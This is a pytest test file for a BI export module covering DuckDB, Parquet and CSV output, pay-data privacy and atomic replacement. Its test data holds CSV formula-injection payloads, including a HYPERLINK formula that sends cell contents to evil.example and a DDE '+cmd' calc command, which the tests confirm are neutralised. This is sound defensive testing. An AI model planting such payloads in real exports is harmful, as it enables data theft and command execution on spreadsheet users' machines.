"""BI exports: DuckDB file, Parquet by period, CSV for Excel, pay privacy, atomic replacement."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import threading
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from exports import bi
from exports.atomic import sha256_of
from exports.bi import CSV_BOM, export_bi, read_manifest, write_csv
from exports.bi_source import BiTable, Column, ExportError, NothingPublished, is_pay_column
from exports.column_docs import TableDoc, load_column_docs
from ingestion.warehouse import connect
from tests.exports.conftest import create_marts, publish


def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(CSV_BOM)
    return list(csv.reader(io.StringIO(raw[len(CSV_BOM) :].decode("utf-8"), newline="")))


def _export(published_warehouse: Path, out: Path, **kwargs):
    con = connect(published_warehouse, read_only=True)
    try:
        return export_bi(con, out, **kwargs)
    finally:
        con.close()


# --- CSV formula injection --------------------------------------------------------------------

NASTY_TEXT = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("   =1+1", "'   =1+1"),
    ("\u3000=1+1", "'\u3000=1+1"),  # ideographic space before the formula
    ("\n@x", "'\n@x"),
    ("销售额 = 收入", "销售额 = 收入"),  # '=' not at the start: plain text
    ("a-b", "a-b"),
    ("e-mail@example.com", "e-mail@example.com"),
    ('he said "hi",\nthen left', 'he said "hi",\nthen left'),
    ("", ""),
]  # fmt: skip


def test_csv_neutralises_formula_text_and_leaves_numbers_alone(tmp_path: Path) -> None:
    con = duckdb.connect()
    con.execute("create schema published")
    con.execute(
        "create table published.cells (n integer, txt varchar, amount decimal(18,2), i integer)"
    )
    con.executemany(
        "insert into published.cells values (?, ?, ?, ?)",
        [[n, text, Decimal("-12.50"), -3] for n, (text, _) in enumerate(NASTY_TEXT)],
    )
    con.execute("insert into published.cells values (99, null, null, null)")
    table = BiTable(
        "cells",
        (
            Column("n", "INTEGER"),
            Column("txt", "VARCHAR"),
            Column("amount", "DECIMAL(18,2)"),
            Column("i", "INTEGER"),
        ),
        len(NASTY_TEXT) + 1,
    )
    path = tmp_path / "cells.csv"
    write_csv(con, table, path)

    rows = _read_csv(path)
    assert rows[0] == ["n", "txt", "amount", "i"]
    body = rows[1:]
    assert [row[1] for row in body[:-1]] == [expected for _, expected in NASTY_TEXT]
    # numbers are numbers: a negative amount is not prefixed
    assert {(row[2], row[3]) for row in body[:-1]} == {("-12.50", "-3")}
    assert body[-1] == ["99", "", "", ""]  # NULL is an empty cell
    # an empty string is written quoted, distinct from NULL
    assert b'13,"",-12.50,-3\n' in path.read_bytes()
    assert not (tmp_path / ".cells.csv.body").exists()


def test_an_empty_table_gives_a_csv_with_only_bom_and_header(tmp_path: Path) -> None:
    con = duckdb.connect()
    con.execute("create schema published; create table published.e (a varchar, b date)")
    write_csv(
        con, BiTable("e", (Column("a", "VARCHAR"), Column("b", "DATE")), 0), tmp_path / "e.csv"
    )
    assert (tmp_path / "e.csv").read_bytes() == CSV_BOM + b"a,b\n"


# --- the export of a publication ------------------------------------------------------------


def test_export_writes_the_current_publication_in_three_formats(
    published_warehouse, tmp_path
) -> None:
    docs = {
        "fct_kpi_values": TableDoc(
            "Every KPI value.", {"numerator": "Sum of the numerator, CNY.", "note": "备注"}
        )
    }
    result = _export(published_warehouse, tmp_path / "exports", column_docs=docs)

    link = tmp_path / "exports" / "bi"
    assert result.publication_id == 1 and result.path == link
    assert link.is_symlink() and link.resolve() == result.build
    manifest = read_manifest(tmp_path / "exports")
    assert manifest == result.manifest
    assert (manifest["publication_id"], manifest["run_id"]) == (1, "run-1")
    assert {name: t["rows"] for name, t in manifest["tables"].items()} == {
        "dim_kpis": 3,
        "fct_kpi_values": 4,
    }
    # every file is listed with its checksum, and nothing else is in the folder
    listed = {f["path"]: f["sha256"] for f in manifest["files"]}
    on_disk = {
        p.relative_to(link.resolve()).as_posix()
        for p in link.resolve().rglob("*")
        if p.is_file() and p.name != "manifest.json"
    }
    assert set(listed) == on_disk
    for relative, digest in listed.items():
        assert sha256_of(link / relative) == digest

    # the DuckDB file: exact values, comments, the publication it is
    bi_con = duckdb.connect(str(link / "sales_kpis.duckdb"), read_only=True)
    try:
        assert bi_con.execute(
            "select entity_id, period, numerator, note from fct_kpi_values order by all"
        ).fetchall() == [
            ("E1", "2026-01", Decimal("1234.500000"), "张三 销售"),
            ("E1", "2026-02", Decimal("-20.250000"), '=HYPERLINK("http://evil.example","点我")'),
            ("E2", "2026-Q1", Decimal("3.000000"), None),
            ("T1", "2026", Decimal("99999999.990000"), 'quote " and\nnewline'),
        ]
        assert bi_con.execute(
            "select column_name, comment from duckdb_columns() "
            "where table_name = 'fct_kpi_values' and comment is not null order by column_name"
        ).fetchall() == [("note", "备注"), ("numerator", "Sum of the numerator, CNY.")]
        assert bi_con.execute(
            "select comment from duckdb_tables() where table_name = 'fct_kpi_values'"
        ).fetchone() == ("Every KPI value.",)
        assert bi_con.execute(
            "select publication_id, run_id, includes_pay, excluded_tables from _publication"
        ).fetchall() == [(1, "run-1", False, ["fct_payouts"])]
    finally:
        bi_con.close()
    assert not list(link.resolve().glob("*.wal"))

    # the CSV keeps the formula as text, prefixed
    rows = _read_csv(link / "csv" / "fct_kpi_values.csv")
    assert rows[0][:8] == [
        "entity_id", "role", "period_type", "period", "kpi_code", "numerator", "value", "note",
    ]  # fmt: skip
    assert rows[2][5] == "-20.250000"
    assert rows[2][7] == '\'=HYPERLINK("http://evil.example","点我")'
    assert rows[4][7] == 'quote " and\nnewline'
    assert _read_csv(link / "csv" / "dim_kpis.csv")[1:] == [
        ["direct_sales", "revenue", "销售额", "CNY"],
        ["direct_sales", "win_rate", "'+cmd|' /C calc'!A0", "ratio"],
        ["sales_manager", "revenue", "'@SUM(A1:A2)", "CNY"],
    ]


def test_parquet_is_one_folder_per_mart_partitioned_by_period(
    published_warehouse, tmp_path
) -> None:
    result = _export(published_warehouse, tmp_path)
    parquet = result.path / "parquet"
    files = sorted(p.relative_to(parquet).as_posix() for p in parquet.rglob("*.parquet"))
    assert files == [
        "dim_kpis/data_0.parquet",
        "fct_kpi_values/period_type=month/period=2026-01/data_0.parquet",
        "fct_kpi_values/period_type=month/period=2026-02/data_0.parquet",
        "fct_kpi_values/period_type=quarter/period=2026-Q1/data_0.parquet",
        "fct_kpi_values/period_type=year/period=2026/data_0.parquet",
    ]
    con = duckdb.connect()
    # the partition columns are inside the files too, with their real types
    one_file = parquet / "fct_kpi_values/period_type=year/period=2026/data_0.parquet"
    assert con.execute(
        "select period, numerator, calculated_at, is_ratio "
        f"from read_parquet('{one_file}', hive_partitioning = false)"
    ).fetchall() == [("2026", Decimal("99999999.990000"), None, False)]
    assert con.execute(
        f"select period_type, period, value from read_parquet('{parquet}/fct_kpi_values/**/*.parquet', "
        "hive_partitioning = true, hive_types_autocast = false) order by period"
    ).fetchall() == [
        ("year", "2026", Decimal("99999999.990000")),
        ("month", "2026-01", Decimal("1234.500000")),
        ("month", "2026-02", Decimal("-20.250000")),
        ("quarter", "2026-Q1", None),
    ]
    assert con.execute(
        f"select calculated_at from read_parquet('{parquet}/fct_kpi_values/**/*.parquet') "
        "where period = '2026-01'"
    ).fetchall() == [(dt.datetime(2026, 2, 1, 2, 0),)]


def test_an_empty_mart_with_a_period_still_gets_a_parquet_file(tmp_path) -> None:
    path = tmp_path / "w.duckdb"
    con = duckdb.connect(str(path))
    con.execute("create schema meta; create schema marts")
    con.execute("create table marts.fct_empty (period varchar, amount decimal(18,2))")
    publish(con, "run-1")
    con.close()
    result = _export(path, tmp_path / "out")
    files = list((result.path / "parquet" / "fct_empty").rglob("*.parquet"))
    assert [f.name for f in files] == ["data_0.parquet"]
    assert duckdb.connect().execute(
        f"select count(*), any_value(typeof(amount)) from read_parquet('{files[0]}')"
    ).fetchone() == (0, None)
    assert duckdb.connect().execute(
        f"describe select * from read_parquet('{files[0]}')"
    ).fetchall()[1][:2] == ("amount", "DECIMAL(18,2)")


# --- pay privacy ----------------------------------------------------------------------------


def test_pay_is_left_out_by_default(published_warehouse, tmp_path) -> None:
    result = _export(published_warehouse, tmp_path)
    assert result.manifest["includes_pay"] is False
    assert result.manifest["excluded"] == {"tables": ["fct_payouts"], "columns": {}}
    assert not (result.path / "csv" / "fct_payouts.csv").exists()
    assert not (result.path / "parquet" / "fct_payouts").exists()
    con = duckdb.connect(str(result.path / "sales_kpis.duckdb"), read_only=True)
    assert "fct_payouts" not in {name for (name,) in con.execute("show tables").fetchall()}
    everything = b"".join(p.read_bytes() for p in result.path.rglob("*") if p.is_file())
    assert b"P-001" not in everything  # the payroll id appears nowhere


def test_pay_is_carried_when_configured(published_warehouse, tmp_path) -> None:
    result = _export(published_warehouse, tmp_path, include_pay=True)
    assert result.manifest["includes_pay"] is True
    assert result.manifest["excluded"] == {"tables": [], "columns": {}}
    rows = _read_csv(result.path / "csv" / "fct_payouts.csv")
    assert rows == [
        [
            "employee_id", "payroll_id", "period_type", "period", "performance_pay_base_amount",
            "weighted_score", "performance_pay_amount", "tier_bonus_amount", "payout_amount",
        ],
        ["E1", "P-001", "quarter", "2026-Q1", "10000.00", "95.50000000000000", "9550.00",
         "500.00", "10050.00"],
    ]  # fmt: skip


def test_pay_columns_in_other_tables_are_dropped_by_default(tmp_path) -> None:
    path = tmp_path / "w.duckdb"
    con = duckdb.connect(str(path))
    con.execute("create schema meta; create schema marts")
    con.execute(
        "create table marts.fct_team as select 'T1' as team_id, 'P-9' as payroll_id, "
        "100.00::decimal(18,2) as tier_bonus_amount, 5.00::decimal(18,2) as revenue_amount"
    )
    publish(con, "run-1")
    con.close()
    result = _export(path, tmp_path / "out")
    assert result.manifest["excluded"]["columns"] == {
        "fct_team": ["payroll_id", "tier_bonus_amount"]
    }
    assert _read_csv(result.path / "csv" / "fct_team.csv") == [
        ["team_id", "revenue_amount"],
        ["T1", "5.00"],
    ]


@pytest.mark.parametrize(
    ("name", "is_pay"),
    [
        ("payroll_id", True),
        ("performance_pay_base_amount", True),
        ("performance_pay_amount", True),
        ("tier_bonus_amount", True),
        ("payout_amount", True),
        ("payout_id", True),
        ("base_salary_amount", True),
        ("revenue_amount", False),
        ("suggested_challenge_amount", False),
        ("payment_terms", False),
        ("team_total_amount", False),
    ],
)
def test_pay_column_names(name: str, is_pay: bool) -> None:
    assert is_pay_column(name) is is_pay


# --- replacement, failures, idempotence -----------------------------------------------------


def test_a_new_publication_replaces_the_export_and_keeps_one_previous_build(
    published_warehouse, tmp_path
) -> None:
    out = tmp_path / "exports"
    first = _export(published_warehouse, out)
    con = duckdb.connect(str(published_warehouse))
    create_marts(con, version=2)
    assert publish(con, "run-2") == 2
    con.close()
    second = _export(published_warehouse, out)
    assert (out / "bi").resolve() == second.build
    assert read_manifest(out)["publication_id"] == 2
    assert read_manifest(out)["tables"]["fct_kpi_values"]["rows"] == 3
    assert first.build.exists()  # a reader still in the previous build is not cut off
    third = _export(published_warehouse, out)  # re-exporting the same publication
    assert read_manifest(out)["publication_id"] == 2
    assert _read_csv(third.path / "csv" / "fct_kpi_values.csv") == _read_csv(
        second.build / "csv" / "fct_kpi_values.csv"
    )
    assert not first.build.exists()
    builds = sorted(p.name for p in (out / ".bi-builds").iterdir())
    assert builds == sorted([second.build.name, third.build.name])


def test_a_failed_export_leaves_the_previous_one_untouched(
    published_warehouse, tmp_path, monkeypatch
):
    out = tmp_path / "exports"
    first = _export(published_warehouse, out)
    before = {p: p.read_bytes() for p in first.build.rglob("*") if p.is_file()}

    def broken(con, table, path, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(bi, "write_csv", broken)
    with pytest.raises(OSError, match="disk full"):
        _export(published_warehouse, out)
    assert (out / "bi").resolve() == first.build
    assert {p: p.read_bytes() for p in first.build.rglob("*") if p.is_file()} == before
    assert [p.name for p in (out / ".bi-builds").iterdir()] == [first.build.name]


def test_nothing_published_is_a_clear_error(tmp_path) -> None:
    path = tmp_path / "w.duckdb"
    duckdb.connect(str(path)).close()
    with pytest.raises(NothingPublished, match="nothing published yet"):
        _export(path, tmp_path / "out")
    assert not (tmp_path / "out" / "bi").exists()


def test_a_published_table_that_differs_from_its_record_is_refused(
    published_warehouse, tmp_path
) -> None:
    con = duckdb.connect(str(published_warehouse))
    con.execute("delete from published.dim_kpis where kpi_code = 'win_rate'")
    con.close()
    with pytest.raises(
        ExportError, match=r"published\.dim_kpis holds 2 rows, publication 1 recorded 3"
    ):
        _export(published_warehouse, tmp_path)


def test_an_ordinary_folder_in_place_of_the_link_is_not_deleted(
    published_warehouse, tmp_path
) -> None:
    (tmp_path / "bi").mkdir()
    (tmp_path / "bi" / "mine.txt").write_text("keep")
    with pytest.raises(FileExistsError, match="is not a symlink"):
        _export(published_warehouse, tmp_path)
    assert (tmp_path / "bi" / "mine.txt").read_text() == "keep"
    assert not any((tmp_path / ".bi-builds").iterdir())


def test_column_docs_come_from_the_dbt_manifest(tmp_path) -> None:
    manifest = {
        "nodes": {
            "model.p.fct_kpi_values": {
                "resource_type": "model",
                "schema": "marts",
                "name": "fct_kpi_values",
                "description": "KPI values.",
                "columns": {
                    "value": {"name": "value", "description": "The KPI value."},
                    "note": {"name": "note", "description": ""},
                },
            },
            "model.p.stg_x": {
                "resource_type": "model",
                "schema": "staging",
                "name": "stg_x",
                "description": "not a mart",
                "columns": {},
            },
            "test.p.t": {"resource_type": "test", "schema": "marts", "name": "t"},
        }
    }
    path = tmp_path / "manifest.json"
    path.write_text(json.dumps(manifest))
    assert load_column_docs(path) == {
        "fct_kpi_values": TableDoc("KPI values.", {"value": "The KPI value."})
    }
    assert load_column_docs(tmp_path / "missing.json") == {}


def test_the_bi_duckdb_file_is_read_only_on_disk(published_warehouse, tmp_path) -> None:
    result = _export(published_warehouse, tmp_path)
    assert os.stat(result.path / "sales_kpis.duckdb").st_mode & 0o222 == 0


def test_rows_are_exported_sorted_whatever_order_the_mart_holds(tmp_path) -> None:
    path = tmp_path / "warehouse.duckdb"
    con = duckdb.connect(str(path))
    try:
        con.execute("create schema if not exists meta")
        create_marts(con)
        con.execute(
            "create or replace table marts.fct_kpi_values as "
            "select * from marts.fct_kpi_values order by all desc"
        )
        publish(con, "run-1")
        stored = con.execute("select entity_id, period from published.fct_kpi_values").fetchall()
        assert stored == sorted(stored, reverse=True)  # the test starts from the wrong order
    finally:
        con.close()

    link = _export(path, tmp_path / "exports").path
    csv_rows = _read_csv(link / "csv" / "fct_kpi_values.csv")[1:]
    assert [(r[0], r[3]) for r in csv_rows] == [
        ("E1", "2026-01"), ("E1", "2026-02"), ("E2", "2026-Q1"), ("T1", "2026"),
    ]  # fmt: skip
    bi_con = duckdb.connect(str(link / "sales_kpis.duckdb"), read_only=True)
    try:
        as_stored = bi_con.execute("select entity_id, period from fct_kpi_values").fetchall()
    finally:
        bi_con.close()
    assert as_stored == [("E1", "2026-01"), ("E1", "2026-02"), ("E2", "2026-Q1"), ("T1", "2026")]
    # the sorted copies were temporary and the connection's settings are left as they were:
    # nothing is left behind in the warehouse connection
    con = connect(path, read_only=True)
    try:
        con.execute("set preserve_insertion_order = false")
        export_bi(con, tmp_path / "again")
        assert con.execute(
            "select count(*) from duckdb_tables() where table_name like '_bi_sorted__%'"
        ).fetchone() == (0,)
        setting = "select current_setting('preserve_insertion_order')"
        assert con.execute(setting).fetchone() == (False,)
    finally:
        con.close()


def test_partitioned_parquet_keeps_the_export_order_inside_each_file(tmp_path) -> None:
    con = duckdb.connect(config={"threads": 2})
    try:
        con.execute("set preserve_insertion_order = true")
        # the sorted copy the export writes from: 400,000 rows in two periods, in export order
        con.execute(
            "create table export_order as select 'month' as period_type, "
            "case when i % 2 = 0 then '2026-01' else '2026-02' end as period, "
            "md5(cast(i as varchar)) as entity_id from range(400000) as r (i) "
            "order by all"
        )
        table = BiTable(
            "fct_kpi_values",
            (Column("period_type", "VARCHAR"), Column("period", "VARCHAR"),
             Column("entity_id", "VARCHAR")),
            400000,
        )  # fmt: skip
        bi.write_parquet(con, table, tmp_path / "parquet", source="export_order")
        assert con.execute("select current_setting('threads')").fetchone() == (2,)  # restored
        for period in ("2026-01", "2026-02"):
            path = tmp_path / f"parquet/period_type=month/period={period}/data_0.parquet"
            ids = [
                r[0]
                for r in con.execute(f"select entity_id from read_parquet('{path}')").fetchall()
            ]
            assert len(ids) == 200000 and ids == sorted(ids)
    finally:
        con.close()


# --- lanes: files written at once ---------------------------------------------------------------


def _files(build: Path) -> dict[str, bytes]:
    return {
        p.relative_to(build).as_posix(): p.read_bytes()
        for p in build.rglob("*")
        if p.is_file() and p.name not in ("manifest.json", "sales_kpis.duckdb")
    }


def _duckdb_file_contents(path: Path) -> dict[str, object]:
    con = duckdb.connect(str(path), read_only=True)
    try:
        tables = [r[0] for r in con.execute("select table_name from duckdb_tables()").fetchall()]
        rows = {t: con.execute(f'select * from "{t}"').fetchall() for t in sorted(tables)}
        comments = con.execute(
            "select table_name, column_name, comment from duckdb_columns() "
            "where comment is not null order by all"
        ).fetchall()
        return {"rows": rows, "comments": comments}
    finally:
        con.close()


def test_files_written_on_lanes_are_those_written_one_at_a_time(
    published_warehouse, tmp_path
) -> None:
    docs = {"fct_kpi_values": TableDoc("Every KPI value.", {"numerator": "Sum, CNY."})}
    serial = _export(published_warehouse, tmp_path / "serial", column_docs=docs, lanes=1)
    on_lanes = _export(published_warehouse, tmp_path / "lanes", column_docs=docs, lanes=2)
    # Parquet and CSV byte for byte (the DuckDB file's bytes differ between any two writes)
    assert _files(on_lanes.build) == _files(serial.build)
    assert len(_files(serial.build)) == 7  # 2 CSV, 1 + 4 Parquet (dim_kpis, 4 periods)
    lanes_db = _duckdb_file_contents(on_lanes.build / "sales_kpis.duckdb")
    assert lanes_db == _duckdb_file_contents(serial.build / "sales_kpis.duckdb")
    assert lanes_db["rows"]["fct_kpi_values"][0][:4] == ("E1", "direct_sales", "month", "2026-01")
    assert on_lanes.manifest["tables"] == serial.manifest["tables"]


def test_lanes_write_files_at_the_same_time(published_warehouse, tmp_path, monkeypatch) -> None:
    # two Parquet writes must be under way together to pass the barrier; written one at a time,
    # the first waits for the second in vain and the barrier breaks
    barrier = threading.Barrier(2, timeout=20)
    written = bi.write_parquet

    def meeting(con, table, folder, **kwargs):
        barrier.wait()
        written(con, table, folder, **kwargs)

    monkeypatch.setattr(bi, "write_parquet", meeting)
    result = _export(published_warehouse, tmp_path / "exports", lanes=2)
    assert {"dim_kpis", "fct_kpi_values"} <= {p.name for p in (result.build / "parquet").iterdir()}


def test_a_failure_on_a_lane_restores_the_connection(
    published_warehouse, tmp_path, monkeypatch
) -> None:
    def broken(con, table, path, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(bi, "write_csv", broken)
    con = connect(published_warehouse, read_only=True, threads=2)
    try:
        with pytest.raises(OSError, match="disk full"):
            export_bi(con, tmp_path / "exports", lanes=2)
        assert con.execute("select current_setting('threads')").fetchone() == (2,)
        assert con.execute(
            "select count(*) from duckdb_databases() where database_name = 'kpiwh_bi_sorted'"
        ).fetchone() == (0,)
        assert not (tmp_path / "exports" / "bi").exists()
        assert list((tmp_path / "exports" / ".bi-builds").iterdir()) == []
    finally:
        con.close()
